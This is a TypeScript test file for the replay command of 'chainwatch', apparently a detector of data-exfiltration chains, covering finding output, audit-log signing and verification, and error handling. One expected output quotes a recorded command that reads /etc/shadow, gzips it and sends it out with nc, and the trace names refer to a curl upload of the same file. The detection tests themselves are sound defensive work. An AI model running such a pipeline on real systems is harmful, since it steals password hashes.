import { spawn, spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { Finding } from '../../schema/finding.js';
import { SmallDisk } from '../../testing/small-disk.js';

/** The built CLI (npm test builds first). */
const cli = join(import.meta.dirname, '../../../dist/src/cli/main.js');
const replays = join(import.meta.dirname, '../../../replays');
const run = (...args: string[]) => spawnSync(process.execPath, [cli, 'replay', ...args], { encoding: 'utf8' });

/** The CLI with stdout on a terminal (a pseudo-terminal from util-linux `script`); stderr discarded. */
function onTerminal(args: string[], env: Record<string, string> = {}): string {
  const cmd = [process.execPath, cli, 'replay', ...args].map((a) => `'${a}'`).join(' ');
  const r = spawnSync('script', ['-qec', `${cmd} 2>/dev/null`, '/dev/null'], { encoding: 'utf8', env: { ...process.env, ...env } });
  expect(r.status, r.stderr).toBe(0);
  return r.stdout.replace(/\r\n/g, '\n');
}

describe('chainwatch replay', () => {
  it('findings as text for a person: by default on a terminal (coloured unless NO_COLOR), with --findings-format text anywhere; JSON Lines to a pipe', () => {
    const trace = join(replays, 'pipeline-gzip-nc.trace.jsonl.gz');
    const tty = onTerminal([trace]);
    expect(tty).toMatch(/^\d{4}-\d\d-\d\dT[\d:.]+Z \x1b\[31mHIGH\x1b\[0m +exfil\.read-then-transmit  task pipeline-gzip-nc\n/);
    expect(tty).toMatch(/\n  process    nc -N 127\.0\.0\.2 \d+  \[pid \d+, \/usr\/bin\/nc\]\n  started by bash -c 'cat \/etc\/shadow \| gzip \| nc -N 127\.0\.0\.2 \d+'  \[pid \d+, \/usr\/bin\/bash\]\n/);
    expect(onTerminal([trace], { NO_COLOR: '1' })).not.toContain('\x1b');
    // with stderr on the same terminal, no progress bar is drawn through the findings
    const both = spawnSync('script', ['-qec', `'${process.execPath}' '${cli}' replay '${trace}' --no-audit`, '/dev/null'], { encoding: 'utf8' });
    expect(both.status).toBe(0);
    expect(both.stdout).toContain('exfil.read-then-transmit  task pipeline-gzip-nc');
    expect(both.stdout).not.toMatch(/[░█]|\| *\d+%/);
    expect(Finding.parse(JSON.parse(onTerminal([trace, '--findings-format', 'json']).trim())).rule).toBe('exfil.read-then-transmit');
    const piped = run(trace, '--findings-format', 'text');
    expect(piped.status).toBe(0);
    expect(piped.stdout).toBe(onTerminal([trace], { NO_COLOR: '1' }));
    expect(run(trace).stdout.startsWith('{"id":')).toBe(true);
  }, 30_000); // seven CLI runs of ~0.7 s each: over vitest's 5 s default on a busy machine

  it('draws a progress bar on stderr when it is a terminal and the findings go elsewhere: the file read, events, rate, findings', () => {
    const trace = join(replays, 'curl-put-shadow.trace.jsonl.gz');
    const tty = (extra: string) => spawnSync('script', ['-qec', `'${process.execPath}' '${cli}' replay '${trace}' --no-audit --findings /dev/null ${extra}`, '/dev/null'], { encoding: 'utf8' });
    const r = tty('');
    expect(r.status).toBe(0);
    expect(r.stdout).toMatch(/curl-put-shadow\.trace\.jsonl\.gz \|█+\| 100% · 253 events · \d+ ev\/s · 1 findings/);
    expect(tty('--no-progress').stdout).not.toMatch(/[░█]|\| *\d+%/);
  });

  it('prints only findings on stdout, logs on stderr', () => {
    const r = run(join(replays, 'curl-put-shadow.trace.jsonl.gz'));
    expect(r.status).toBe(0);
    const lines = r.stdout.trim().split('\n');
    expect(lines).toHaveLength(1);
    const f = Finding.parse(JSON.parse(lines[0]!));
    expect(f.rule).toBe('exfil.read-then-transmit');
    expect(f.source.path).toBe('/etc/shadow');
    expect(r.stderr).toContain('"msg":"done"');
  });

  it('a trace cut mid-line (kill -9): replays the whole lines, exits 0, and says where it was cut', () => {
    const text = gunzipSync(readFileSync(join(replays, 'curl-put-shadow.trace.jsonl.gz'))).toString('utf8');
    const lines = text.split('\n');
    const file = join(mkdtempSync(join(tmpdir(), 'cw-cli-')), 'cut.jsonl');
    writeFileSync(file, `${lines.slice(0, 100).join('\n')}\n${lines[100]!.slice(0, 25)}`);
    const r = run(file);
    expect(r.status).toBe(0);
    expect(r.stderr).toContain(`${file}: cut off after line 100`);
  });

  it('a corrupt line in the middle: exit 5 with FILE:LINE, findings before it still printed', () => {
    const text = gunzipSync(readFileSync(join(replays, 'curl-put-shadow.trace.jsonl.gz'))).toString('utf8');
    const lines = text.split('\n');
    lines[lines.length - 5] = '{"kind":"io","ts":"soon"}';
    const file = join(mkdtempSync(join(tmpdir(), 'cw-cli-')), 'bad.jsonl');
    writeFileSync(file, lines.join('\n'));
    const r = run(file);
    expect(r.status).toBe(5);
    expect(r.stderr).toContain(`chainwatch: ${file}:${lines.length - 4}: not a canonical event`);
    expect(r.stderr).not.toMatch(/\n\s+at /); // no stack trace
    expect(r.stdout.trim().split('\n').filter(Boolean).map((l) => Finding.parse(JSON.parse(l)).rule)).toEqual(['exfil.read-then-transmit']);
  });

  it('--audit: the run leaves a signed, hash-chained log that verifies offline with the public key', () => {
    const d = join(mkdtempSync(join(tmpdir(), 'cw-cli-')), 'audit');
    expect(run(join(replays, 'curl-put-shadow.trace.jsonl.gz'), '--audit', d).status).toBe(0);
    const v = spawnSync(process.execPath, [cli, 'audit', 'verify', d, '--pubkey', join(d, 'audit-key.pub.pem')], { encoding: 'utf8' });
    expect(v.status, v.stdout + v.stderr).toBe(0);
    expect(v.stdout).toMatch(/^intact: \d+ records, \d+ signed checkpoints/);
    expect(v.stdout).toContain('1 findings');
    const types = readFileSync(join(d, 'audit-000001.jsonl'), 'utf8').trim().split('\n').map((l) => (JSON.parse(l) as { type: string }).type);
    expect(types[0]).toBe('start');
    expect(types).toContain('finding');
    // the start record names the rules and the policy this replay applied, and beside them what the trace was recorded under
    const start = JSON.parse(readFileSync(join(d, 'audit-000001.jsonl'), 'utf8').split('\n')[0]!) as Record<string, unknown>;
    expect(start.scope).toEqual({ mode: 'replay' });
    expect(start.policy_sha256).toMatch(/^[0-9a-f]{64}$/);
    expect((start.rules as { file: string; sha256: string }[]).map((r) => r.file.split('/').slice(-2).join('/'))).toEqual(['rules/data-classes.yaml', 'rules/chains.yaml']);
    expect(start.replay_of).toMatchObject({ files: [join(replays, 'curl-put-shadow.trace.jsonl.gz')], policy_sha256: null, scope: { mode: 'command' } });
    expect(types.slice(-2)).toEqual(['shutdown', 'checkpoint']);
  });

  it('audit verify --checkpoint: a run cut off the log, and the checkpoint file set back, is found by the SIEM\'s copy of the final checkpoint', () => {
    const d = join(mkdtempSync(join(tmpdir(), 'cw-cli-')), 'audit');
    const trace = join(replays, 'curl-put-shadow.trace.jsonl.gz');
    expect(run(trace, '--audit', d).status).toBe(0);
    expect(run(trace, '--audit', d).status).toBe(0);
    // the final checkpoint as a syslog output delivered it: the MSG, newlines escaped
    const held = join(dirname(d), 'held-checkpoint.txt');
    writeFileSync(held, readFileSync(join(d, 'checkpoint'), 'utf8').replace(/\n/g, '\\n'));
    // the second run removed: every record after the first run's final checkpoint, and the file beside set back to that checkpoint
    const segs = readdirSync(d).filter((f) => /^audit-\d+\.jsonl$/.test(f)).sort();
    const first = readFileSync(join(d, segs[0]!), 'utf8').split('\n');
    const at = first.findIndex((l) => l.includes('"type":"checkpoint"'));
    writeFileSync(join(d, segs[0]!), `${first.slice(0, at + 1).join('\n')}\n`);
    for (const s of segs.slice(1)) rmSync(join(d, s));
    writeFileSync(join(d, 'checkpoint'), (JSON.parse(first[at]!) as { note: string }).note);
    const verify = (...extra: string[]) => spawnSync(process.execPath, [cli, 'audit', 'verify', d, '--pubkey', join(d, 'audit-key.pub.pem'), ...extra], { encoding: 'utf8' });
    // alone, the records and the file agree: a whole log ending at a checkpoint, but it says so
    const alone = verify();
    expect(alone.status, alone.stdout + alone.stderr).toBe(0);
    expect(alone.stdout).toContain('closed: the log ends with its run\'s shutdown and final checkpoint');
    const pinned = verify('--checkpoint', held);
    expect(pinned.status).toBe(1);
    expect(pinned.stdout).toMatch(/^NOT INTACT/);
    expect(pinned.stdout).toContain(`first problem: truncated at record ${at + 1}: the checkpoint in ${held} signs`);
    expect(pinned.stdout).toContain(`checkpoint ${held} (`);
    expect(pinned.stdout).toContain('signs more records than the log holds: records were cut off the end');
    expect(pinned.stderr).toBe('');
    const missing = verify('--checkpoint', join(d, 'no-such-note'));
    expect(missing.status).toBe(2);
    expect(missing.stderr).toContain('cannot read');
    expect(missing.stderr).not.toMatch(/\n\s+at /);
  }, 30_000); // five CLI runs

  it('kill -9 during a run, start again, verify: intact, nothing lost that was written', async () => {
    const d = join(mkdtempSync(join(tmpdir(), 'cw-cli-')), 'audit');
    // a slow replay (a twentieth of recorded speed) killed mid-run
    const child = spawn(process.execPath, [cli, 'replay', join(replays, 'scm-rights-send.trace.jsonl.gz'), '--speed', '0.05', '--audit', d], { stdio: 'ignore' });
    // killed once the run is under way (its start record written), however slowly this machine started it
    const file = join(d, 'audit-000001.jsonl');
    for (let waited = 0; !(existsSync(file) && readFileSync(file, 'utf8').includes('"type":"start"')); waited += 50) {
      if (waited > 30_000) throw new Error('the replay wrote no audit start record in 30 s');
      await new Promise((r) => setTimeout(r, 50));
    }
    await new Promise((r) => setTimeout(r, 300));
    child.kill('SIGKILL');
    await new Promise((r) => child.once('exit', r));
    const killed = readFileSync(join(d, 'audit-000001.jsonl'), 'utf8');
    expect(killed).toContain('"type":"start"');
    expect(killed).not.toContain('"type":"shutdown"');
    expect(run(join(replays, 'curl-put-shadow.trace.jsonl.gz'), '--audit', d).status).toBe(0);
    const v = spawnSync(process.execPath, [cli, 'audit', 'verify', d, '--pubkey', join(d, 'audit-key.pub.pem'), '--json'], { encoding: 'utf8' });
    expect(v.status, v.stdout).toBe(0);
    const rep = JSON.parse(v.stdout) as { ok: boolean; records: number };
    expect(rep.ok).toBe(true);
    // the killed run's start record is covered by the next run's checkpoints
    expect(readFileSync(join(d, 'audit-000001.jsonl'), 'utf8').startsWith(killed.split('\n')[0]!)).toBe(true);
  });

  it('--events to a full disk: the replay goes on, the findings still come out, the audit log records the failure, exit 6 naming the file and the count, no stack trace', () => {
    const disk = new SmallDisk(256 * 1024);
    try {
      disk.fill(0);
      const events = join(disk.dir, 'events.jsonl');
      const audit = mkdtempSync(join(tmpdir(), 'cw-cli-audit-'));
      const r = run('--events', events, '--audit', audit, join(replays, 'scm-rights-send.trace.jsonl.gz'));
      expect(r.status).toBe(6);
      expect(r.stdout.trim().split('\n').map((l) => Finding.parse(JSON.parse(l)).rule)).toEqual(['exfil.read-then-transmit']);
      const written = readFileSync(events, 'utf8');
      expect(written === '' || written.endsWith('\n')).toBe(true);
      const total = (JSON.parse(r.stderr.split('\n').find((l) => l.includes('"trace replayed"'))!) as { events: number }).events;
      const notWritten = total - (written.match(/\n/g)?.length ?? 0);
      expect(r.stderr).toContain(`chainwatch: could not write ${events} (ENOSPC; ${notWritten} lines not written)`);
      expect(r.stderr).not.toMatch(/\n\s+at /);
      const records = readFileSync(join(audit, 'audit-000001.jsonl'), 'utf8').trim().split('\n').map((l) => JSON.parse(l) as { type: string; source?: string });
      expect(records.filter((x) => x.type === 'loss').map((x) => x.source)).toEqual([`output:${events}`]);
    } finally {
      disk.unmount();
    }
  });

  it('an output path that cannot be written: exit 2 naming the path, the option and the fix, before anything runs (procfs, where Node\'s recursive mkdir loops forever, included)', () => {
    const trace = join(replays, 'curl-put-shadow.trace.jsonl.gz');
    for (const [args, msg] of [
      [['--findings', '/nonexistent/f.jsonl'], '/nonexistent/f.jsonl: cannot write the findings (--findings) here: ENOENT'],
      [['--events', '/etc/hostname/x'], '/etc/hostname/x: cannot write the events (--events) here: ENOTDIR'],
      [['--audit', '/proc/cw-audit'], '/proc/cw-audit: cannot write the audit log (--audit) here: ENOENT'],
      [['--audit', '/etc/hostname'], '/etc/hostname: cannot write the audit log (--audit) here: /etc/hostname is not a folder'],
    ] as const) {
      const r = spawnSync(process.execPath, [cli, 'replay', ...args, trace], { encoding: 'utf8', timeout: 30_000 });
      expect(r.status, r.stderr).toBe(2);
      expect(r.stderr).toContain(`chainwatch: ${msg}`);
      expect(r.stderr).toContain('(fix: choose a path');
      expect(r.stdout).toBe('');
    }
  });

  it('rejects a bad --speed with usage (exit 2)', () => {
    const r = run('--speed', 'fast', join(replays, 'curl-put-shadow.trace.jsonl.gz'));
    expect(r.status).toBe(2);
    expect(r.stderr).toContain('--speed is max, realtime or a positive factor');
  });
});
